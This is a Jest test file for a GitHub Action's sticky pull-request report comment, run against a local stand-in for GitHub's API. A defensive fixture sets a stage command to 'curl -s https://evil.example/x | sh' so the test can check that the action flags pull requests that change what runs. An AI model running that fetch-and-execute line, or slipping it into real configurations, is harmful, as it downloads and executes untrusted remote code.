import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { catalogText, validEntry } from '../helpers/catalog.js';
import { ROOT, runAction } from '../helpers/runner.js';

const MARKER = '<!-- mcc-e2e-report -->';
const REPO = 'mcc/e2e-action';

interface Comment {
  id: number;
  body: string;
  html_url: string;
  user?: { login: string; type: string };
}

/** whom a token writes as: the workflow's GITHUB_TOKEN writes as github-actions[bot] */
const IDENTITIES: Record<string, { login: string; type: string }> = {
  'token ghs_standin_token': { login: 'github-actions[bot]', type: 'Bot' },
};

interface Request {
  method: string;
  path: string;
  authorization?: string;
}

/**
 * A stand-in for the part of GitHub's REST API the comment uses: list (paginated with Link
 * headers, 100 per page), create, edit. `readOnly` answers writes like a read-only token does.
 */
class GitHubStandIn {
  readonly comments = new Map<number, Comment[]>();
  readonly requests: Request[] = [];
  readOnly = false;
  private nextId = 1000;
  private server: Server | undefined;
  url = '';

  async start(): Promise<void> {
    this.server = createServer((req, res) => void this.handle(req, res));
    await new Promise<void>((resolve) => this.server?.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.server?.address() as { port: number }).port}`;
  }

  stop(): Promise<void> {
    return new Promise((resolve) => this.server?.close(() => resolve()));
  }

  writes(): Request[] {
    return this.requests.filter((r) => r.method !== 'GET');
  }

  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    let raw = '';
    for await (const chunk of req) raw += chunk;
    const url = new URL(req.url ?? '/', this.url);
    this.requests.push({
      method: req.method ?? '',
      path: url.pathname,
      authorization: req.headers.authorization,
    });
    const send = (status: number, body: unknown, headers: Record<string, string> = {}): void => {
      res.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body));
    };
    const list = url.pathname.match(/^\/repos\/mcc\/e2e-action\/issues\/(\d+)\/comments$/);
    const edit = url.pathname.match(/^\/repos\/mcc\/e2e-action\/issues\/comments\/(\d+)$/);
    if (list && req.method === 'GET') {
      const all = this.comments.get(Number(list[1])) ?? [];
      const perPage = Number(url.searchParams.get('per_page') ?? 30);
      const page = Number(url.searchParams.get('page') ?? 1);
      const next = page * perPage < all.length;
      const link = `<${this.url}${url.pathname}?per_page=${perPage}&page=${page + 1}>; rel="next"`;
      return send(200, all.slice((page - 1) * perPage, page * perPage), next ? { link } : {});
    }
    if (this.readOnly && (list || edit)) {
      return send(403, { message: 'Resource not accessible by integration', status: '403' });
    }
    if (list && req.method === 'POST') {
      const comment: Comment = {
        id: this.nextId++,
        body: (JSON.parse(raw) as { body: string }).body,
        html_url: '',
        user: IDENTITIES[req.headers.authorization ?? ''] ?? { login: 'unknown', type: 'User' },
      };
      comment.html_url = `https://github.com/${REPO}/pull/${list[1]}#issuecomment-${comment.id}`;
      this.comments.set(Number(list[1]), [...(this.comments.get(Number(list[1])) ?? []), comment]);
      return send(201, comment);
    }
    if (edit && req.method === 'PATCH') {
      const comment = [...this.comments.values()].flat().find((c) => c.id === Number(edit[1]));
      if (!comment) return send(404, { message: 'Not Found' });
      comment.body = (JSON.parse(raw) as { body: string }).body;
      return send(200, comment);
    }
    send(404, { message: 'Not Found' });
  }
}

const git = (cwd: string, ...args: string[]): string => {
  const result = spawnSync('git', args, { cwd, encoding: 'utf8' });
  if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.stderr}`);
  return result.stdout.trim();
};

const entry = (id: string, model: string, extra: Record<string, unknown> = {}) =>
  validEntry({
    id,
    args: `--deployment-config=transformers-vllm --model-name=${model} --instance-type=ml.g5.xlarge --region=us-west-2 --enable-lora`,
    ...extra,
  });

/**
 * A checkout of a pull request: the base commit has entries a, b, c; the head (the working
 * tree) removes b, changes c's model and adds d.
 */
function pullRequestWorkspace(): { dir: string; baseSha: string } {
  const dir = mkdtempSync(join(tmpdir(), 'mcc-pr-'));
  mkdirSync(join(dir, 'catalog'));
  const file = join(dir, 'catalog/e2e-catalog.json');
  writeFileSync(
    file,
    catalogText([
      entry('rt-a', 'Qwen/Qwen3-4B'),
      entry('rt-b', 'Qwen/Qwen3-8B'),
      entry('rt-c', 'Qwen/Qwen3-14B'),
    ]),
  );
  git(dir, 'init', '-q');
  git(dir, 'add', '.');
  git(dir, '-c', 'user.name=test', '-c', 'user.email=test@example.com', 'commit', '-q', '-m', 'base');
  const baseSha = git(dir, 'rev-parse', 'HEAD');
  writeFileSync(
    file,
    catalogText([
      entry('rt-a', 'Qwen/Qwen3-4B'),
      entry('rt-c', 'Qwen/Qwen3-32B'),
      entry('rt-d', 'meta-llama/Llama-3.2-1B-Instruct'),
    ]),
  );
  return { dir, baseSha };
}

function eventFile(dir: string, number: number, headRepo: string, baseSha: string): string {
  const file = join(dir, `event-${number}-${headRepo.replace('/', '_')}.json`);
  writeFileSync(
    file,
    JSON.stringify({
      action: 'synchronize',
      number,
      pull_request: {
        number,
        head: { sha: 'f'.repeat(40), repo: { full_name: headRepo } },
        base: { sha: baseSha, repo: { full_name: REPO } },
      },
      repository: { full_name: REPO },
    }),
  );
  return file;
}

/** A pull request whose only change is the root stageCommands: deploy becomes a shell with curl. */
function commandOnlyWorkspace(): { dir: string; baseSha: string } {
  const dir = mkdtempSync(join(tmpdir(), 'mcc-pr-cmd-'));
  mkdirSync(join(dir, 'catalog'));
  const file = join(dir, 'catalog/e2e-catalog.json');
  const configs = [entry('rt-a', 'Qwen/Qwen3-4B')];
  writeFileSync(file, catalogText(configs));
  git(dir, 'init', '-q');
  git(dir, 'add', '.');
  git(dir, '-c', 'user.name=test', '-c', 'user.email=test@example.com', 'commit', '-q', '-m', 'base');
  const baseSha = git(dir, 'rev-parse', 'HEAD');
  writeFileSync(
    file,
    JSON.stringify(
      { stageCommands: { deploy: ['/bin/sh', '-c', 'curl -s https://evil.example/x | sh'] }, configs },
      null,
      2,
    ),
  );
  return { dir, baseSha };
}

describe('the sticky PR comment of the report action (GitHub REST stand-in)', () => {
  const github = new GitHubStandIn();
  let workspace: { dir: string; baseSha: string };

  beforeAll(async () => {
    await github.start();
    workspace = pullRequestWorkspace();
  });

  afterAll(() => github.stop());

  const report = (number: number, headRepo = REPO, at = workspace) =>
    runAction('dist/report/index.js', {
      cwd: at.dir,
      inputs: { comment: 'true', 'github-token': 'ghs_standin_token', 'results-dir': 'no-results-here' },
      env: {
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: eventFile(at.dir, number, headRepo, at.baseSha),
        GITHUB_REPOSITORY: REPO,
        GITHUB_API_URL: github.url,
        GITHUB_SERVER_URL: 'https://github.com',
        GITHUB_RUN_ID: '4242',
      },
    });

  it('creates one comment with the marker, after paging through the existing ones', async () => {
    github.comments.set(
      7,
      Array.from({ length: 150 }, (_, i) => ({ id: i + 1, body: `review note ${i}`, html_url: '' })),
    );
    const run = await report(7);
    expect(run.code).toBe(0);
    expect(github.requests.filter((r) => r.method === 'GET').map((r) => r.path)).toEqual([
      '/repos/mcc/e2e-action/issues/7/comments',
      '/repos/mcc/e2e-action/issues/7/comments',
    ]);
    expect(github.writes()).toEqual([
      {
        method: 'POST',
        path: '/repos/mcc/e2e-action/issues/7/comments',
        authorization: 'token ghs_standin_token',
      },
    ]);
    const ours = (github.comments.get(7) ?? []).filter((c) => c.body.includes(MARKER));
    expect(ours).toHaveLength(1);
    const body = ours[0]?.body ?? '';
    mkdirSync(join(ROOT, '__tests__/artifacts'), { recursive: true });
    writeFileSync(join(ROOT, '__tests__/artifacts/pr-comment.md'), body);
    expect(body.startsWith(`${MARKER}\n`)).toBe(true);
    // the catalog change against the base commit
    expect(body).toContain(`1 added · 1 removed · 1 changed, against base ${workspace.baseSha.slice(0, 7)}.`);
    expect(body).toMatch(
      /\| ➕ added \| rt-d \| ci \| [0-9a-f]{16} \| unknown \(no AWS data\) \| \$\d+\.\d\d \|/,
    );
    expect(body).toMatch(
      /\| ✏️ changed \(args\) \| rt-c \| ci \| [0-9a-f]{16} → [0-9a-f]{16} \| unknown \(no AWS data\) \|/,
    );
    expect(body).toMatch(/\| ➖ removed \| rt-b \| ci \| [0-9a-f]{16} \| unknown \(no AWS data\) \| — \|/);
    expect(body).toMatch(
      /Running the 2 added or changed entries: estimated \$\d+\.\d\d at typical stage durations/,
    );
    expect(body).toContain(
      'AWS data was not available (no results table is configured for this check): the current status of the entries was not read from the results table.',
    );
    expect(body).toContain('<details><summary>Dry-run plan of the 2 added or changed entries</summary>');
    expect(body).toContain('#### rt-c — Qwen/Qwen3-32B on ml.g5.xlarge');
    expect(body).toContain('**Summary: 3 total | 0 passing | 0 failing | 3 untested | 0% coverage**');
    expect(body.length).toBeLessThan(65_535);
    expect(run.stdout).toContain(`PR comment created: https://github.com/${REPO}/pull/7#issuecomment-1000`);
    expect(run.summary).toContain('1 added · 1 removed · 1 changed');
    expect(run.summary).not.toContain(MARKER);
  });

  it('edits that comment on the next run and creates none', async () => {
    github.requests.length = 0;
    const before = github.comments.get(7)?.length;
    const run = await report(7);
    expect(run.code).toBe(0);
    expect(github.writes()).toEqual([
      {
        method: 'PATCH',
        path: '/repos/mcc/e2e-action/issues/comments/1000',
        authorization: 'token ghs_standin_token',
      },
    ]);
    expect(github.comments.get(7)?.length).toBe(before);
    expect((github.comments.get(7) ?? []).filter((c) => c.body.includes(MARKER))).toHaveLength(1);
    expect(run.stdout).toContain('PR comment updated');
  });

  it('leaves a marker comment by another user untouched and writes its own', async () => {
    github.requests.length = 0;
    const planted = {
      id: 1,
      body: `${MARKER}\nlooks like the report`,
      html_url: '',
      user: { login: 'mallory', type: 'User' },
    };
    github.comments.set(11, [planted]);
    const run = await report(11);
    expect(run.code).toBe(0);
    expect(github.writes().map((r) => `${r.method} ${r.path}`)).toEqual([
      'POST /repos/mcc/e2e-action/issues/11/comments',
    ]);
    const comments = github.comments.get(11) ?? [];
    expect(comments[0]).toEqual({
      id: 1,
      body: `${MARKER}\nlooks like the report`,
      html_url: '',
      user: { login: 'mallory', type: 'User' },
    });
    expect(comments).toHaveLength(2);
    expect(comments[1]?.user?.login).toBe('github-actions[bot]');
  });

  it('writes nothing with a read-only token, and says so in the summary', async () => {
    github.requests.length = 0;
    github.readOnly = true;
    try {
      const run = await report(8);
      expect(run.code).toBe(0);
      expect(github.comments.get(8)).toBeUndefined();
      expect(github.writes().map((r) => r.method)).toEqual(['POST']); // refused with 403, nothing stored
      expect(run.summary).toContain(
        '> The PR comment was not written (creating the comment failed): the token cannot write comments here (HTTP 403) — give the job `permissions: pull-requests: write`. The report is in this job summary.',
      );
      expect(run.stdout).toContain('::warning::The PR comment was not written');
      expect(run.summary).toContain('**Summary: 3 total |');
    } finally {
      github.readOnly = false;
    }
  });

  it('a PR changing only a stage command gets the warning in summary and comment, and the dry run shows the new argv', async () => {
    const run = await report(12, REPO, commandOnlyWorkspace());
    expect(run.code).toBe(0);
    const comment = (github.comments.get(12) ?? [])[0]?.body ?? '';
    for (const text of [run.summary, comment]) {
      expect(text).toContain('⚠️ **this PR changes what runs**: 1 command or environment change');
      expect(text).toContain(
        '> | stageCommands.deploy | (none) | /bin/sh -c &quot;curl -s https://evil.example/x \\| sh&quot; |',
      );
      expect(text).not.toContain('No catalog entry is added, removed or changed by this pull request.\n');
      expect(text).toContain('Dry-run plan of rt-a, with this pull request&#39;s stage commands');
      expect(text).toContain(
        '| deploy | 1800s | project | /bin/sh -c &quot;curl -s https://evil.example/x \\| sh&quot; |',
      );
    }
  });

  it('sends no request at all for a pull request from a fork', async () => {
    github.requests.length = 0;
    const run = await report(9, 'someone/e2e-action');
    expect(run.code).toBe(0);
    expect(github.requests).toEqual([]);
    expect(run.summary).toContain(
      'The PR comment was not written: pull requests from forks get a read-only token. The report is in this job summary.',
    );
    expect(run.summary).toContain(
      'AWS data was not available (pull requests from forks get no OIDC token and no secrets)',
    );
  });
});
